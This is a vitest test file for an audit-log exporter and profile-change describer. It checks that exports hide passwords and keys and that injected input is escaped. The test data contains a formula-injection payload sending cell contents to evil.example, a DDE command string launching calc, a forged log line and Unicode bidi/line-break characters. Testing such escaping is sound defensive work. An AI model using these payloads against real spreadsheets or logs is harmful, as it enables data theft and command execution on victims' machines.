import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { EMPTY_PROFILE, type StoredProfile } from '../../store/profileRepository';
import { AuditLog } from './auditLog';
import { describeProfileChanges } from './profileChanges';
import { openTestStore } from '../../sim/testing/testStores';

let store: Awaited<ReturnType<typeof openTestStore>>;
let clock: number;
let audit: AuditLog;

beforeEach(async () => {
  store = await openTestStore();
  clock = Date.parse('2026-11-21T05:40:00.000Z');
  audit = new AuditLog(store.db, () => clock);
});
afterEach(() => store.dispose());

const before: StoredProfile = { ...EMPTY_PROFILE, mode: 'TFTP', tftp: { imageServer: '10.0.0.5', imagePath: '/images/ap', port: 69 } };

describe('AuditLog', () => {
  it('exports one line per entry: time user@address action detail', async () => {
    const after: StoredProfile = { ...before, mode: 'SFTP', sftp: { ...before.sftp, imageServer: '10.0.0.6', password: 'S3cret!pw' } };
    await audit.record({ username: 'admin', sourceAddress: '127.0.0.1', action: 'profile.save', detail: describeProfileChanges(before, after) });
    clock += 60_000;
    await audit.record({ username: 'admin', sourceAddress: '::ffff:192.168.1.20', action: 'upgrade.download' });
    expect(await audit.exportText()).toBe(
      '2026-11-21T05:40:00.000Z admin@127.0.0.1 profile.save mode TFTP -> SFTP, sftp.imageServer "" -> 10.0.0.6, password changed\n' + '2026-11-21T05:41:00.000Z admin@192.168.1.20 upgrade.download\n',
    );
    expect(await audit.exportText()).not.toContain('S3cret!pw');
  });

  it('keeps a forged newline in a user name from starting a new line', async () => {
    await audit.record({ username: 'x\n2026-01-01T00:00:00.000Z admin@127.0.0.1 user.create', sourceAddress: '10.1.1.1', action: 'login.failed', detail: 'unknown user' });
    expect((await audit.exportText()).split('\n').filter(Boolean)).toHaveLength(1);
  });

  it('exports spreadsheet formulas and invisible line breaks from attempted user names as text', async () => {
    const attempts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', 'ad\u2028min', 'ad\u2029min', 'ad\u0085min', 'ad\u202Enimda', 'tab\tname'];
    for (const username of attempts) await audit.record({ username, sourceAddress: '127.0.0.1', action: 'login.failed', detail: 'unknown user' });
    const lines = (await audit.exportText()).split('\n').filter(Boolean);
    expect(lines).toEqual([
      `2026-11-21T05:40:00.000Z '=HYPERLINK("http://evil.example/?"&A1,"Click")@127.0.0.1 login.failed unknown user`,
      `2026-11-21T05:40:00.000Z '+cmd|' /C calc'!A0@127.0.0.1 login.failed unknown user`,
      `2026-11-21T05:40:00.000Z '-2+3@127.0.0.1 login.failed unknown user`,
      `2026-11-21T05:40:00.000Z '@SUM(A1)@127.0.0.1 login.failed unknown user`,
      '2026-11-21T05:40:00.000Z ad\\u2028min@127.0.0.1 login.failed unknown user',
      '2026-11-21T05:40:00.000Z ad\\u2029min@127.0.0.1 login.failed unknown user',
      '2026-11-21T05:40:00.000Z ad\\u0085min@127.0.0.1 login.failed unknown user',
      '2026-11-21T05:40:00.000Z ad\\u202enimda@127.0.0.1 login.failed unknown user',
      '2026-11-21T05:40:00.000Z tab name@127.0.0.1 login.failed unknown user',
    ]);
    // What a terminal or an editor would take as a line break or a direction change is gone from the file.
    expect(await audit.exportText()).not.toMatch(/[\u2028\u2029\u0085\u202e\t\r]/);
  });

  it('returns the most recent entries oldest first', async () => {
    for (const action of ['login', 'upgrade.download', 'upgrade.activate', 'logout'] as const) {
      await audit.record({ username: 'admin', sourceAddress: '127.0.0.1', action });
      clock += 1000;
    }
    expect((await audit.recent(2)).map((e) => e.action)).toEqual(['upgrade.activate', 'logout']);
    expect((await audit.recent())[0]).toMatchObject({ username: 'admin', sourceAddress: '127.0.0.1', action: 'login', detail: '', time: '2026-11-21T05:40:00.000Z' });
  });
});

describe('describeProfileChanges', () => {
  it('lists every changed field with old and new value, each server mode under its own name', () => {
    const after: StoredProfile = {
      ...before,
      mode: 'SFTP',
      parallelMode: true,
      tftp: { ...before.tftp, port: 6969 },
      sftp: { ...before.sftp, imageServer: 'images.example.net', imagePath: '/srv/ap', port: 2222, username: 'loader', passwordType: 'AES' },
    };
    expect(describeProfileChanges(before, after)).toBe(
      'mode TFTP -> SFTP, parallelMode false -> true, tftp.port 69 -> 6969, sftp.imageServer "" -> images.example.net, sftp.imagePath "" -> /srv/ap, sftp.port 22 -> 2222, sftp.username "" -> loader, sftp.passwordType UNENCRYPTED -> AES',
    );
  });

  it('reports secrets only as changed, never their values', () => {
    const withSecrets = { ...before, sftp: { ...before.sftp, password: 'old-Secret-1', privateKey: '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA' } };
    const rotated = { ...before, sftp: { ...before.sftp, password: 'new-Secret-2', privateKey: '-----BEGIN OPENSSH PRIVATE KEY-----\nBBBB' } };
    const text = describeProfileChanges(withSecrets, rotated);
    expect(text).toBe('password changed, private key changed');
    for (const secret of ['old-Secret-1', 'new-Secret-2', 'AAAA', 'BBBB', 'BEGIN']) expect(text).not.toContain(secret);
    expect(describeProfileChanges(withSecrets, before)).toBe('password changed, private key changed');
  });

  it('covers the SFTP key fields: the method and trusted fingerprint by value, the passphrase only as changed', () => {
    const keyed: StoredProfile = { ...before, sftp: { ...before.sftp, authMethod: 'password', passphrase: null, hostKeyFingerprint: null } };
    const after: StoredProfile = { ...keyed, sftp: { ...keyed.sftp, authMethod: 'key', passphrase: 'pass-Phrase-9', hostKeyFingerprint: 'SHA256:abc', hostKeyType: 'ssh-ed25519' } };
    const text = describeProfileChanges(keyed, after);
    expect(text).toBe('sftp.authMethod password -> key, sftp.hostKeyFingerprint "" -> SHA256:abc, sftp.hostKeyType "" -> ssh-ed25519, passphrase changed');
    expect(text).not.toContain('pass-Phrase-9');
  });

  it('says so when nothing changed', () => {
    expect(describeProfileChanges(before, { ...before, sftp: { ...before.sftp } })).toBe('no changes');
  });
});
